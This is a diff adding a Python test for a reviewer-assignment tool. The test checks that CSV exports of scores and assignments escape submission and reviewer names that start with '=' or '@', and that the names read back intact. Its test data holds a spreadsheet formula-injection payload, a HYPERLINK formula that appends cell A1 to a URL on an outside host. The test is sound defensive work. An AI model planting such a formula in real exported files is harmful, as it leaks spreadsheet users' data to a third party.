@@ -1,0 +1,35 @@
+"""Files of scores and assignments, as people and our own readers open them."""
+
+import csv
+from pathlib import Path
+
+import numpy as np
+
+from specter_graph.loaders.review_records import Assigned
+from specter_graph.matching.io import read_conflicts
+from specter_graph.matching.io.tables import read_scores, write_assigned, write_scores
+
+FORMULA = '=HYPERLINK("https://x.org/?"&A1)'
+
+
+def cells(path: Path) -> list[str]:
+    with path.open(newline="") as file:
+        return [cell for row in csv.reader(file) for cell in row]
+
+
+def test_names_that_are_formulas_are_escaped_and_read_back(tmp_path: Path):
+    submissions, reviewers = [FORMULA, "-5VpIqr"], ["@ann", "~Bob_B1"]
+    scores = np.float32([[-0.5, 0.25], [1, 0]])
+    write_scores(tmp_path / "scores.csv", submissions, reviewers, scores)
+    assert {f"'{FORMULA}", "'@ann", "-5VpIqr", "-0.500000"} <= {*cells(tmp_path / "scores.csv")}
+    read = read_scores(tmp_path / "scores.csv", submissions, reviewers)
+    np.testing.assert_array_equal(read, scores)
+
+    pairs = [Assigned("@ann", FORMULA, -0.5), Assigned("~Bob_B1", "-5VpIqr", 0.25, locked=True)]
+    write_assigned(tmp_path / "assignment.csv", pairs)
+    assert {f"'{FORMULA}", "'@ann", "-0.500000"} <= {*cells(tmp_path / "assignment.csv")}
+    again = read_conflicts(tmp_path / "assignment.csv")
+    assert [(each.reviewer, each.submission) for each in again] == [
+        ("@ann", FORMULA),
+        ("~Bob_B1", "-5VpIqr"),
+    ]
